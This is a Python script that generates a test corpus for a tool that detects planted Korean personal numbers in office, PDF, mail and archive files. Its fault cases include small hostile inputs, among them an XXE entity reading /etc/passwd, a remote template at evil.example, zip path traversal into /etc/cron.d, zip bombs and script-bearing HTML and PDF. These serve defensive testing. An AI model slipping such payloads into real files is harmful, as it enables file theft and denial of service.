"""The corpus of documents: every format × every place where text can hide × every fault, made by this script.

    make.py DIR     write all of them as files, with expected.json

Nothing in it is of a real person: numbers, names and sentences are made here (CC0-1.0). `CASES` maps a file's name to a
`Case`: what must be found in it, or the problem it must be refused with. `dev/` holds copies of the five development files.
"""

import base64
import io
import json
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))

import hwp5
import pdfs
from compound import compound
from packages import docx, hwpx, pptx, xlsx, zipped

_numbers = iter(range(1000, 9999))


def phone():
    return f"010-7{next(_numbers):04}"[:9] + f"-{next(_numbers):04}"


def said():
    """A sentence with one planted value, and the value."""
    number = f"010-{next(_numbers):04}-{next(_numbers):04}"
    return f"연락처 {number} 확인", number


@dataclass(frozen=True)
class Case:
    content: bytes
    find: tuple[str, ...] = ()
    problem: str = ""
    masks: bool = True  # a masked copy can be written


CASES: dict[str, Case] = {}


def place(name, build, *, masks=True):
    """A document with one value in one place."""
    text, value = said()
    CASES[name] = Case(build(text), (value,), masks=masks)


def fault(name, content, problem):
    CASES[name] = Case(content, problem=problem)


def text(words):
    return words.encode()


# ---------------------------------------------------------------- places

for where in ("body", "split", "table", "nested_table", "header", "footer", "footnote", "endnote", "comment", "deleted",
              "inserted", "textbox", "alt", "link", "field", "control", "vanish", "core", "custom", "custom_xml",
              "comment_author", "xml_comment", "document_variable", "chart", "glossary"):  # fmt: skip
    place(f"docx-{where}.docx", lambda words, where=where: docx({where: words}))
place("docx-embedded-xlsx.docx", lambda words: docx({}, {"word/embeddings/book.xlsx": xlsx({"shared": words})}))
for where in ("shared", "rich", "inline", "string_formula", "formula", "hidden_sheet", "hidden_row", "comment",
              "threaded", "defined_name", "validation", "page_header", "drawing", "sheet_name", "pivot", "link",
              "core", "second_sheet"):  # fmt: skip
    place(f"xlsx-{where}.xlsx", lambda words, where=where: xlsx({where: words}))
CASES["xlsx-number.xlsx"] = Case(xlsx({"number": "8001011234567"}), ("800101-1234567",))
CASES["xlsx-date.xlsx"] = Case(xlsx({"date": "29221"}), ("1980-01-01",))
for where in (
    "slide",
    "table",
    "notes",
    "hidden",
    "comment",
    "master",
    "layout",
    "alt",
    "group",
    "core",
    "link",
    "field",
):
    place(f"pptx-{where}.pptx", lambda words, where=where: pptx({where: words}))
for where in ("body", "split", "table", "header", "footer", "footnote", "endnote", "memo", "hidden_comment", "textbox",
              "caption", "equation", "link", "form", "deleted", "metadata", "preview", "masterpage", "shape_comment",
              "cell_name", "bullet", "svg"):  # fmt: skip
    place(f"hwpx-{where}.hwpx", lambda words, where=where: hwpx({where: words}), masks=where != "svg")
for where in ("body", "table", "head", "foot", "fn  ", "en  ", "tcmt", "link", "equation", "preview", "summary"):

    def made(words, where=where):
        first = hwp5.paragraph("문서 본문", controls=[(2, b"secd")], after=hwp5.record(71, 1, b"dces" + b"\0" * 40))
        more = {}
        if where == "body":
            first += hwp5.paragraph(words)
        elif where == "table":
            first += hwp5.paragraph("", controls=[(11, b"tbl ")], after=hwp5.table([["항목", "내용"], ["전화", words]]))
        elif where == "link":
            command = hwp5.utf16(words)
            field = b"klh%" + struct.pack("<IBH", 0, 0, len(command) // 2) + command + struct.pack("<I", 1)
            first += hwp5.paragraph("연결", controls=[(3, b"%hlk")], after=hwp5.record(71, 1, field))
        elif where == "equation":
            script = hwp5.utf16(words)
            body = struct.pack("<IH", 0, len(script) // 2) + script + b"\0" * 12
            first += hwp5.paragraph("수식", controls=[(11, b"eqed")], after=hwp5.record(71, 1, b"deqe" + b"\0" * 40)
                                    + hwp5.record(88, 2, body))  # fmt: skip
        elif where == "preview":
            more["PrvText"] = hwp5.utf16(words)
        elif where == "summary":
            more["\x05HwpSummaryInformation"] = b"\xfe\xff\0\0" + b"\0" * 44 + hwp5.utf16(words) + b"\0\0"
        else:
            code = 16 if where in ("head", "foot") else 17 if where in ("fn  ", "en  ") else 15
            first += hwp5.paragraph("본문", controls=[(code, where.encode())], after=hwp5.note(where.encode(), words))
        return hwp5.hwp(first, more=more)

    place(f"hwp-{where.strip()}.hwp", made)
for where in ("page", "invisible", "field", "note", "link", "info", "outline", "metadata", "attachment", "annotation"):
    place(f"pdf-{where}.pdf", lambda words, where=where: pdfs.pdf({where: words}))

for where in ("white", "outside", "tiny", "covered", "clipped", "layer", "form_object", "hidden_field", "choice", "alternative",
              "layer_name", "attachment_note", "attached_pdf", "page_label"):  # fmt: skip
    place(f"pdf-{where}.pdf", lambda words, where=where: pdfs.pdf({where: words}))

W14 = 'xmlns:w14="w14"'
for where, form in {
    "bookmark": "<w:p><w:bookmarkStart w:id='1' w:name='{}'/><w:r><w:t>글</w:t></w:r></w:p>",
    "form_default": "<w:p><w:r><w:fldChar w:fldCharType='begin'><w:ffData><w:name w:val='f'/><w:textInput><w:default w:val='{}'/></w:textInput></w:ffData></w:fldChar></w:r></w:p>",
    "form_help": "<w:p><w:r><w:fldChar w:fldCharType='begin'><w:ffData><w:helpText w:type='text' w:val='{}'/></w:ffData></w:fldChar></w:r></w:p>",
    "drop_down": "<w:sdt><w:sdtPr><w:dropDownList><w:listItem w:displayText='{}' w:value='1'/></w:dropDownList></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>",
    "control_tag": "<w:sdt><w:sdtPr><w:tag w:val='{}'/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>",
    "simple_field": "<w:p><w:fldSimple w:instr=' QUOTE \"{}\" '><w:r><w:t>글</w:t></w:r></w:fldSimple></w:p>",
    "moved_from": "<w:p><w:moveFrom w:id='1' w:author='나'><w:r><w:t>{}</w:t></w:r></w:moveFrom><w:r><w:t>글</w:t></w:r></w:p>",
    "author": "<w:p><w:ins w:id='1' w:author='{}'><w:r><w:t>글</w:t></w:r></w:ins></w:p>",
    "ruby": "<w:p><w:r><w:ruby><w:rt><w:r><w:t>{}</w:t></w:r></w:rt><w:rubyBase><w:r><w:t>글</w:t></w:r></w:rubyBase></w:ruby></w:r></w:p>",
    "word_art": "<w:p><w:r><w:pict><v:shape xmlns:v='v'><v:textpath string='{}'/></v:shape></w:pict></w:r></w:p>",
    "equation": "<w:p><m:oMath xmlns:m='m'><m:r><m:t>{}</m:t></m:r></m:oMath></w:p>",
    "tooltip": "<w:p><w:hyperlink w:anchor='a' w:tooltip='{}'><w:r><w:t>글</w:t></w:r></w:hyperlink></w:p>",
    "table_caption": "<w:tbl><w:tblPr><w:tblDescription w:val='{}'/></w:tblPr><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>",
    "cdata": "<w:p><w:r><w:t><![CDATA[{}]]></w:t></w:r></w:p>",
    "instruction": "<?memo {}?><w:p/>",
    "unknown_element": "<x:memo xmlns:x='x'>{}</x:memo>",
}.items():
    place(f"docx-{where}.docx", lambda words, form=form: docx({"body": "글", "raw": form.format(words)}))
#: Numbers that stand alone in an attribute, without a word beside them.
for where, value in {"phone": "01012345678", "rrn": "800101-1234567", "passport": "M123A4567"}.items():
    CASES[f"docx-bare-{where}.docx"] = Case(
        docx(
            {
                "body": "글",
                "raw": f"<w:p><w:bookmarkStart w:id='1' w:name='x{value[:0]}'/><w:x w:memo='{value}'/></w:p>",
            }
        ),
        (value,),
    )
CASES["docx-bare-variable.docx"] = Case(
    docx(
        {"body": "글"},
        {
            "word/settings.xml": "<w:settings xmlns:w='w'><w:docVars><w:docVar w:name='a' w:val='01012345678'/></w:docVars></w:settings>"
        },
    ),
    ("01012345678",),
)
CASES["docx-bookmark-name.docx"] = Case(
    docx(
        {
            "body": "글",
            "raw": "<w:p><w:bookmarkStart w:id='1' w:name='담당자 남궁솔 과장'/><w:r><w:t>글</w:t></w:r></w:p>",
        }
    ),
    ("남궁솔",),
)
for where, form in {
    "field_name": "<hp:p><hp:run><hp:ctrl><hp:fieldBegin id='1' type='CLICK_HERE' name='{}'/></hp:ctrl></hp:run></hp:p>",
    "field_default": "<hp:p><hp:run><hp:ctrl><hp:fieldBegin id='1' type='CLICK_HERE'><hp:parameters><hp:stringParam name='Direction'>{}</hp:stringParam></hp:parameters></hp:fieldBegin></hp:ctrl></hp:run></hp:p>",
    "bookmark": "<hp:p><hp:run><hp:ctrl><hp:bookmark name='{}'/></hp:ctrl></hp:run></hp:p>",
    "index": "<hp:p><hp:run><hp:ctrl><hp:indexmark><hp:firstKey>{}</hp:firstKey></hp:indexmark></hp:ctrl></hp:run></hp:p>",
    "inserted": "<hp:p><hp:run><hp:t>앞 <hp:insertBegin Id='1'/>{}<hp:insertEnd Id='1'/></hp:t></hp:run></hp:p>",
    "combo": "<hp:p><hp:run><hp:comboBox name='c'><hp:listItem displayText='{}' value='1'/></hp:comboBox></hp:run></hp:p>",
    "button": "<hp:p><hp:run><hp:btn captionText='{}' name='b'/></hp:run></hp:p>",
    "word_art": "<hp:p><hp:run><hp:textart text='{}'/></hp:run></hp:p>",
    "compose": "<hp:p><hp:run><hp:compose composeText='{}'/></hp:run></hp:p>",
    "ruby": "<hp:p><hp:run><hp:dutmal><hp:mainText>글</hp:mainText><hp:subText>{}</hp:subText></hp:dutmal></hp:run></hp:p>",
    "nested_table": "<hp:p><hp:run><hp:tbl><hp:tr><hp:tc><hp:subList><hp:p><hp:run><hp:tbl><hp:tr><hp:tc><hp:subList><hp:p><hp:run><hp:t>{}</hp:t></hp:run></hp:p></hp:subList></hp:tc></hp:tr></hp:tbl></hp:run></hp:p></hp:subList></hp:tc></hp:tr></hp:tbl></hp:run></hp:p>",
    "media": "<hp:p><hp:run><hp:video videoLink='{}'/></hp:run></hp:p>",
    "outside": "{}",
}.items():
    place(f"hwpx-{where}.hwpx", lambda words, form=form: hwpx({"raw": form.format(words)}))
place(
    "hwpx-author.hwpx",
    lambda words: hwpx(
        {"body": "글"},
        {
            "Contents/history.xml": f"<hhs:history xmlns:hhs='h'><hhs:historyEntry revisionAuthor='{words}'/></hhs:history>"
        },
    ),
)
place(
    "hwpx-chart.hwpx",
    lambda words: hwpx(
        {"body": "글"}, {"Chart/chart1.xml": f"<c:chartSpace xmlns:c='c'><c:v>{words}</c:v></c:chartSpace>"}
    ),
)
place(
    "hwpx-settings.hwpx",
    lambda words: hwpx(
        {"body": "글"},
        {
            "settings.xml": f"<ha:set xmlns:ha='a'><config:config-item xmlns:config='c' config:name='a'>{words}</config:config-item></ha:set>"
        },
    ),
)
for where, form in {
    "odd_footer": "<headerFooter><firstFooter>{}</firstFooter></headerFooter>",
    "condition": "<conditionalFormatting sqref='A1'><cfRule type='containsText' text='{}'/></conditionalFormatting>",
    "error": "<dataValidations><dataValidation sqref='A1' error='{}'/></dataValidations>",
    "tooltip": "<hyperlinks><hyperlink ref='A1' tooltip='{}' display='글'/></hyperlinks>",
    "protected_range": "<protectedRanges><protectedRange sqref='A1' name='{}'/></protectedRanges>",
    "scenario": "<scenarios><scenario name='{}' user='나'/></scenarios>",
}.items():
    place(f"xlsx-{where}.xlsx", lambda words, form=form: xlsx({"raw": form.format(words)}))
for part_, form in {
    "xl/tables/table1.xml": "<table displayName='t'><tableColumns><tableColumn id='1' name='{}'/></tableColumns></table>",
    "xl/persons/person.xml": "<personList><person displayName='{}' id='1'/></personList>",
    "xl/connections.xml": "<connections><connection id='1' name='c' description='{}'/></connections>",
    "xl/revisions/revisionLog1.xml": "<revisions><rcc rId='1'><nc r='A1' t='inlineStr'><is><t>{}</t></is></nc></rcc></revisions>",
    "xl/slicerCaches/slicerCache1.xml": "<slicerCacheDefinition><data><tabular><items><i x='0' n='{}'/></items></tabular></data></slicerCacheDefinition>",
    "xl/charts/chart1.xml": "<c:chartSpace xmlns:c='c'><c:strCache><c:pt><c:v>{}</c:v></c:pt></c:strCache></c:chartSpace>",
    "docProps/custom.xml": "<Properties><property name='a'><lpwstr>{}</lpwstr></property></Properties>",
    "customXml/item1.xml": "<data>{}</data>",
}.items():
    name = part_.rpartition("/")[2].removesuffix(".xml")
    place(
        f"xlsx-{name}.xlsx", lambda words, part_=part_, form=form: xlsx({"shared": "글"}, {part_: form.format(words)})
    )
for part_, form in {
    "ppt/comments/modernComment_1.xml": "<p188:cmLst xmlns:p188='p'><p188:cm><p188:txBody><a:p xmlns:a='a'><a:r><a:t>{}</a:t></a:r></a:p></p188:txBody></p188:cm></p188:cmLst>",
    "ppt/commentAuthors.xml": "<p:cmAuthorLst xmlns:p='p'><p:cmAuthor id='0' name='{}' initials='나'/></p:cmAuthorLst>",
    "ppt/tags/tag1.xml": "<p:tagLst xmlns:p='p'><p:tag name='A' val='{}'/></p:tagLst>",
    "ppt/handoutMasters/handoutMaster1.xml": "<p:handoutMaster xmlns:p='p' xmlns:a='a'><a:p><a:r><a:t>{}</a:t></a:r></a:p></p:handoutMaster>",
    "ppt/diagrams/data1.xml": "<dgm:dataModel xmlns:dgm='d' xmlns:a='a'><dgm:pt><dgm:t><a:p><a:r><a:t>{}</a:t></a:r></a:p></dgm:t></dgm:pt></dgm:dataModel>",
    "docProps/app.xml": "<Properties><Company>{}</Company></Properties>",
}.items():
    name = part_.rpartition("/")[2].removesuffix(".xml")
    place(f"pptx-{name}.pptx", lambda words, part_=part_, form=form: pptx({"slide": "글"}, {part_: form.format(words)}))

for encoding in ("utf-8", "utf-8-sig", "cp949", "utf-16", "utf-16-le", "utf-16-be", "utf-32"):

    def encoded(words, encoding=encoding):
        return f"민원 처리 결과\r\n{words}\r\n똠방각하\r\n".encode(encoding)

    place(f"text-{encoding}.txt", encoded)
place("text.csv", lambda words: f"번호,비고\r\n1,{words}\r\n".encode("cp949"))
place("text.md", lambda words: f"# 보고\n\n| 가 | 나 |\n|---|---|\n| 1 | {words} |\n".encode())
PAGE = "<!doctype html><html lang='ko'><head><title>{title}</title>{head}</head><body><p>본문</p>{body}</body></html>"
for where, form in {
    "body": "<p>{}</p>",
    "table": "<table><tr><th>비고</th></tr><tr><td>{}</td></tr></table>",
    "alt": "<img src='a.png' alt='{}'>",
    "comment": "<!-- {} -->",
    "hidden": "<input type=hidden name=a value='{}'>",
    "split": "<p>{0[0]}<b>{0[1]}</b></p>",
    "link": "<a href='https://example.go.kr/?q={}'>연결</a>",
    "data": "<p data-memo='{}'>글</p>",
    "invisible": "<p style='display:none'>{}</p>",
    "cdata": "<p><![CDATA[{}]]></p>",
    "entity": "<p>{}</p>",
    "twice": "<p title='{}' title='b'>글</p>",
    "template": "<template><p>{}</p></template>",
    "svg": "<svg><text>{}</text></svg>",
    "noscript": "<noscript>{}</noscript>",
    "textarea": "<textarea>{}</textarea>",
    "style": "<style>p::after {{ content: '{}' }}</style>",
}.items():

    def page(words, where=where, form=form):
        if where == "split":
            body = form.format((words[:8], words[8:]))
        elif where == "entity":
            body = form.format("".join(f"&#{ord(c)};" for c in words))
        else:
            body = form.format(words)
        return PAGE.format(title="제목", head="", body=body).encode()

    place(f"html-{where}.html", page)
place("html-title.html", lambda words: PAGE.format(title=words, head="", body="").encode())
place(
    "html-meta.html",
    lambda w: PAGE.format(title="제목", head=f"<meta name=description content='{w}'>", body="").encode(),
)
place(
    "html-euckr.htm",
    lambda w: PAGE.format(title="가", head="<meta charset=euc-kr>", body=w).encode("cp949"),
)


def mail(*, headers="", parts=(), body="본문입니다"):
    lines = [
        "From: office@example.go.kr",
        "To: desk@example.go.kr",
        "Subject: =?utf-8?b?" + base64.b64encode("민원".encode()).decode() + "?=",
    ]
    if headers:
        lines.append(headers)
    lines += ["MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="b1"', "", "--b1", "Content-Type: text/plain; charset=utf-8",
              "Content-Transfer-Encoding: 8bit", "", body]  # fmt: skip
    for part in parts:
        lines += ["--b1", part]
    return "\r\n".join([*lines, "--b1--", ""]).encode()


def part(kind, content, *, name="", inline=False):
    where = "inline" if inline else f'attachment; filename="{name}"' if name else "inline"
    body = base64.encodebytes(content).decode().replace("\n", "\r\n")
    return f"Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: {where}\r\n\r\n{body}"


def word64(words, charset="utf-8"):
    return f"=?{charset}?b?{base64.b64encode(words.encode('cp949' if charset == 'euc-kr' else charset)).decode()}?="


place("eml-body.eml", lambda w: mail(body=w), masks=False)
place("eml-subject.eml", lambda w: mail(headers="Comments: " + word64(w)), masks=False)
place("eml-header-euckr.eml", lambda w: mail(headers="X-Memo: " + word64(w, "euc-kr")), masks=False)
place("eml-header-bare.eml", lambda w: mail(headers="X-Memo: 8888").replace(b"8888", w.encode("cp949")), masks=False)
place("eml-header-utf8.eml", lambda w: mail(headers="X-Memo: " + w), masks=False)
place(
    "eml-preamble.eml",
    lambda w: mail().replace(b"\r\n\r\n--b1\r\n", b"\r\n\r\n" + w.encode("cp949") + b"\r\n--b1\r\n", 1),
    masks=False,
)
place("eml-html.eml", lambda w: mail(parts=[part("text/html; charset=utf-8", f"<p>{w}</p>".encode())]), masks=False)
place("eml-euckr.eml", lambda w: mail(parts=[part("text/plain; charset=euc-kr", w.encode("cp949"))]), masks=False)
place("eml-text.eml", lambda w: mail(parts=[part("text/plain", w.encode("cp949"), name="a.txt")]), masks=False)
place(
    "eml-docx.eml",
    lambda w: mail(parts=[part("application/octet-stream", docx({"footnote": w}), name="a.docx")]),
    masks=False,
)
place(
    "eml-hwpx.eml",
    lambda w: mail(parts=[part("application/octet-stream", hwpx({"memo": w}), name="a.hwpx")]),
    masks=False,
)
place(
    "eml-zip.eml",
    lambda w: mail(parts=[part("application/zip", zipped({"a.txt": w.encode()}), name="a.zip")]),
    masks=False,
)
place(
    "eml-forwarded.eml",
    lambda w: mail(parts=["Content-Type: message/rfc822\r\n\r\n" + mail(body=w).decode().replace("b1", "b2")]),
    masks=False,
)
place("eml-filename.eml", lambda w: mail(parts=[part("text/plain", b"text", name=word64(w))]), masks=False)
place("zip-text.zip", lambda w: zipped({"폴더/가.txt": w.encode()}))
place("zip-docx.zip", lambda w: zipped({"a.docx": docx({"comment": w})}))
place("zip-zip.zip", lambda w: zipped({"b.zip": zipped({"a.csv": w.encode()})}))
place(
    "zip-html.zip", lambda w: zipped({"a.html": PAGE.format(title="제목", head="", body=w).encode(), "b.txt": b"text"})
)
place("zip-cp949.zip", lambda w: zipped({"a.txt": w.encode("cp949")}))
place("zip-pdf.zip", lambda w: zipped({"a.pdf": pdfs.pdf({"page": w})}), masks=False)
place("zip-eml.zip", lambda w: zipped({"a.eml": mail(body=w)}), masks=False)


def commented(words, on):
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as out:
        info = zipfile.ZipInfo("a.txt")
        if on == "member":
            info.comment = words.encode()
        else:
            out.comment = words.encode()
        out.writestr(info, "text")
    return sink.getvalue()


place("zip-comment.zip", lambda w: commented(w, "archive"))
place("zip-member-comment.zip", lambda w: commented(w, "member"))
place("zip-name.zip", lambda w: zipped({f"{w}.txt": b"text"}))

# ---------------------------------------------------------------- faults

LONG = "가나다라 마바사 " * 400
whole = {
    "docx": docx({"body": LONG}), "xlsx": xlsx({"shared": LONG}), "pptx": pptx({"slide": LONG}), "hwpx": hwpx({"body": LONG}),
    "hwp": hwp5.hwp(hwp5.paragraph(LONG)), "pdf": pdfs.pdf({"page": "long text " * 50}), "zip": zipped({"a.txt": LONG.encode()}),
}  # fmt: skip
for kind, content in whole.items():
    fault(f"cut.{kind}", content[: len(content) * 2 // 3], "damaged")
    flipped = bytearray(content)
    flipped[len(content) // 2 : len(content) // 2 + 40] = b"\xaa" * 40
    if kind not in ("pdf", "hwp"):
        fault(f"flipped.{kind}", bytes(flipped), "damaged")
fault("cut.eml", mail(parts=[part("text/plain", b"abc", name="a.txt")])[:-12], "damaged")
fault(
    "base64.eml", mail(parts=["Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!=="]), "damaged"
)
fault("encrypted.docx", compound({"EncryptedPackage": b"x" * 5000, "EncryptionInfo": b"y" * 200}), "encrypted")
fault("encrypted.zip", zipped({"a.txt": b"text"}, flags=1), "encrypted")
fault(
    "encrypted.hwpx",
    hwpx({}, {"META-INF/manifest.xml": b"<odf:manifest xmlns:odf='u'><odf:encryption-data/></odf:manifest>"}),
    "encrypted",
)
fault("encrypted.pdf", pdfs.pdf({"page": "a"}, encrypted=True), "encrypted")
fault("encrypted.eml", mail().replace(b"multipart/mixed", b"application/pkcs7-mime"), "encrypted")
fault("password.hwp", hwp5.hwp(hwp5.paragraph("글"), flags=3), "encrypted")
fault(
    "distribution.hwp", hwp5.hwp(hwp5.paragraph("글"), flags=5, more={"ViewText/Section0": b"x" * 300}), "distribution"
)
fault(
    "history.hwp", hwp5.hwp(hwp5.paragraph("글"), flags=1, more={"DocHistory/VersionLog0": b"x" * 300}), "unread_part"
)
fault(
    "object.hwp",
    hwp5.hwp(hwp5.paragraph("글"), more={"BinData/BIN0001.OLE": hwp5.deflated(b"object" * 50)}),
    "unread_part",
)
fault(
    "script.hwp",
    hwp5.hwp(
        hwp5.paragraph("글"),
        more={"Scripts/DefaultJScript": hwp5.deflated(hwp5.utf16("function OnDocument_Open(){ run('x'); }"))},
    ),
    "script",
)
fault("word.doc", compound({"WordDocument": b"x" * 5000}), "unknown_type")
fault("other.hwp", compound({"Something": b"x" * 5000}), "unknown_type")
fault("macro.docm", docx({"body": "글"}, kind="application/vnd.ms-word.document.macroEnabled.main+xml"), "macro")
fault("macro.docx", docx({"body": "글"}, {"word/vbaProject.bin": b"x" * 100}), "macro")
fault("active.xlsx", xlsx({"shared": "글"}, {"xl/activeX/activeX1.xml": b"<a/>"}), "macro")
fault(
    "object.docx",
    docx({"body": "글"}, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"x" * 100}),
    "unread_part",
)
fault("object.hwpx", hwpx({"body": "글"}, {"BinData/ole1.ole": b"\xd0\xcf\x11\xe0" + b"x" * 100}), "unread_part")
fault(
    "template.docx",
    docx(
        {"body": "글"},
        {
            "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
        },
    ),
    "external",
)
fault(
    "entities.docx",
    docx({}, {"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'}),
    "entities",
)
fault(
    "entities.hwpx",
    hwpx({}, {"Contents/section0.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
    "entities",
)
fault("entities.html", b"<!doctype html [<!ENTITY a 'b'>]><html><body>a</body></html>", "entities")
fault("deep.docx", docx({}, {"word/document.xml": b"<a>" * 5000 + b"</a>" * 5000}), "too_deep")
fault("script.html", b"<html><body><p>a</p><script>run()</script></body></html>", "script")
fault("onload.html", b"<html><body onload='run()'><p>a</p></body></html>", "script")
fault("href.html", b"<html><body><a href=' javascript:run()'>a</a></body></html>", "script")
fault(
    "script.hwpx",
    hwpx({"body": "글"}, {"Scripts/sourceScripts": "function OnDocument_Open(){ run(); }".encode("utf-16-le")}),
    "script",
)
fault("script.pdf", pdfs.pdf({"page": "a", "script": "app.alert(1)"}), "script")
fault("launch.pdf", pdfs.pdf({"page": "a", "launch": "x"}), "script")
fault("xfa.pdf", pdfs.pdf({"page": "a", "xfa": "x"}), "unread_part")
fault("scan.pdf", pdfs.pdf({"image": "x"}), "image_only")
fault("half-scanned.pdf", pdfs.pdf({"page": "first page", "image": "x"}), "image_only")
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)
fault("numbered-scan.pdf", pdfs.pdf({"numbered": "- 3 -"}), "image_only")
fault("picture.jpg", b"text in a picture's name", "lying_type")
fault("archive.7z", b"text in an archive's name", "lying_type")
fault("punycode.eml", mail(parts=["Content-Type: text/plain; charset=punycode\r\n\r\nabc-def"]), "wrong_encoding")
fault("punycode.html", b"<html><head><meta charset=punycode></head><body>abc</body></html>", "wrong_encoding")
fault("nul-charset.eml", mail(parts=['Content-Type: text/plain; charset="euc\x00-kr"\r\n\r\nabc']), "wrong_encoding")
fault(
    "utf7.hwpx",
    hwpx({}, {"Contents/section0.xml": b"<?xml version='1.0' encoding='utf-7'?><a>+AGE-</a>"}),
    "wrong_encoding",
)
fault("chunk.docx", docx({"body": "글"}, {"word/afchunk1.mht": b"MIME-Version: 1.0"}), "unread_part")
fault(
    "package.pptx",
    pptx({"slide": "글"}, {"ppt/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"x" * 99}),
    "unread_part",
)
fault("control.hwpx", hwpx({"body": "글"}, {"Scripts/run.js": b"run()"}), "macro")
fault("picture.png", PNG, "image_only")
fault("picture.txt", PNG, "image_only")
fault("scan.docx", docx({"empty": "x"}, {"word/media/image1.png": PNG}), "image_only")
fault("scan.zip", zipped({"a.png": PNG}), "image_only")
fault("scan.eml", mail(parts=[part("image/png", PNG, name="a.png")]), "image_only")
fault("empty.txt", b"", "no_text")
fault("blank.txt", b" \r\n\t", "no_text")
fault("zeros.txt", b"\x00" * 10_000, "no_text")
fault("empty.docx", docx({"empty": "x"}), "no_text")
fault("empty.zip", zipped({}), "no_text")
fault("lying.docx", whole["pdf"], "lying_type")
fault("lying.pdf", whole["docx"], "lying_type")
fault("lying.xlsx", whole["docx"], "lying_type")
fault("lying.txt", whole["zip"], "lying_type")
fault("lying.hwp", whole["hwpx"], "lying_type")
fault("lying.png", whole["docx"], "lying_type")
fault("program.docx", b"MZ" + b"\x90" * 500, "unknown_type")
fault("program.zip", zipped({"a.exe": b"MZ" + b"\x90" * 500}), "unknown_type")
fault("packed.7z", b"7z\xbc\xaf\x27\x1c" + b"x" * 100, "unknown_type")
fault("rich.rtf", b"{\\rtf1 text}", "unknown_type")
fault("binary.txt", bytes(range(256)) * 20, "wrong_encoding")
fault("halfway.txt", ("글자 " * 200).encode() + b"\x00\x01\x02\xff" * 200, "wrong_encoding")
fault("halfway.csv", ("글자 " * 200).encode() + "이어지는 글".encode("cp949"), "wrong_encoding")
fault("charset.eml", mail().replace(b"charset=utf-8", b"charset=ebcdic-x"), "wrong_encoding")
fault(
    "encoding.docx",
    docx({}, {"word/document.xml": b"<?xml version='1.0' encoding='utf-7'?><a>+AGEAYg-\xff</a>"}),
    "wrong_encoding",
)
fault("unclosed.docx", docx({}, {"word/document.xml": b"<a><b>text</a>"}), "damaged")
CASES["docx-namespace.docx"] = Case(
    docx({"body": "글"}, {"customXml/item1.xml": "<a xmlns:b='연락처 010-8888-1111'/>"}),
    ("010-8888-1111",),
    masks=False,
)
CASES["docx-tag.docx"] = Case(
    docx({"body": "글"}, {"customXml/item1.xml": "<a><n010-8888-2222/></a>"}), ("010-8888-2222",), masks=False
)
fault("header.eml", mail(headers="X-A: " + "=?utf-8?b?aGk=?= " * 9000), "too_large")
for number, opens in enumerate(("<!--", "<a ", "<![", "<![CDATA[", "<!", "<?", "</")):
    fault(f"unclosed-{number}.html", ("<html><p>text</p>" + opens * 100_000).encode(), "damaged")
CASES["own-template.docx"] = Case(
    docx(
        {"body": "글"},
        {
            "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\\010-8888-3333\\Normal.dotm" TargetMode="External"/></Relationships>'
        },
    ),
    ("010-8888-3333",),
)
fault("unknown.docx", docx({"body": "글"}, {"word/secret.dat": b"hidden text"}), "unread_part")
fault("override.zip", zipped({"fdp\u202etxt.exe": b"text"}), "bad_name")
fault("path.zip", zipped({"../../etc/cron.d/a.txt": b"text"}), "bad_name")
fault("absolute.zip", zipped({"/etc/a.txt": b"text"}), "bad_name")
fault("backslash.zip", zipped({"a\\b.txt": b"text"}), "bad_name")
fault("twice.zip", zipped([("a.txt", b"text"), ("A.TXT", b"other")]), "bad_name")
fault("bomb.zip", zipped({"a.txt": b"0" * (12 * 1024 * 1024)}), "ratio")
fault("bomb.hwpx", hwpx({}, {"Contents/section1.xml": b"<a>" + b"0" * (12 * 1024 * 1024) + b"</a>"}), "ratio")
fault("bomb.hwp", hwp5.hwp(b"\x00" * (12 * 1024 * 1024)), "ratio")
inner = zipped({"a.txt": b"text"})
for _ in range(6):
    inner = zipped({"a.zip": inner})
fault("nested.zip", inner, "too_deep")
fault("members.zip", zipped({f"{n}.txt": b"a" for n in range(4100)}), "too_many")


def liar():
    """A directory that says a member is small, before data that is not."""
    content = bytearray(zipped({"a.txt": b"0" * 100_000}))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


fault("lying-size.zip", liar(), "damaged")


def overlapping():
    """Many names for the same bytes."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("a.txt", b"0" * 5000)
        again = zipfile.ZipInfo("b.txt")
        first = out.filelist[0]
        for field in ("CRC", "compress_size", "file_size", "compress_type", "header_offset", "flag_bits"):
            setattr(again, field, getattr(first, field))
        out.filelist.append(again)
    return sink.getvalue()


fault("overlap.zip", overlapping(), "damaged")
fault("trailing.hwp", hwp5.hwp(hwp5.paragraph("글") + b"\x43\x04"), "damaged")

if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, case in CASES.items():
        (folder / name).write_bytes(case.content)
    rows = {name: {"find": case.find, "problem": case.problem} for name, case in CASES.items()}
    (folder / "expected.json").write_text(json.dumps(rows, ensure_ascii=False, indent=1))
    print(f"{len(rows)} files; {zlib.crc32(json.dumps(rows).encode()):08x}")
